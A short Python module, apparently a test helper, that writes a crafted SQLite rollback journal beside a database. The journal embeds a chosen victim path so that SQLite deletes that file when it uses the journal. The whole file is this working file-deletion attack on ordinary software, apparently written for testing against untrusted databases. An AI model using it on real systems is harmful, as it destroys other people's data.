"""SQLite files as a stranger may make them."""

from __future__ import annotations

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512


def hostile_journal(database: Path, victim: Path) -> None:
    """Write a journal beside ``database``, after whose use SQLite removes the file ``victim``."""
    data, name = database.read_bytes(), str(victim).encode()
    (page,) = struct.unpack(">H", data[16:18])
    head = _MAGIC + struct.pack(">5I", 0, 0, len(data) // page, _SECTOR, page)
    lock_page, checksum = 2**30 // page + 1, sum(name) % 2**32
    tail = struct.pack(">I", lock_page) + name + struct.pack(">2I", len(name), checksum) + _MAGIC
    database.with_name(f"{database.name}-journal").write_bytes(head.ljust(_SECTOR, b"\0") + tail)
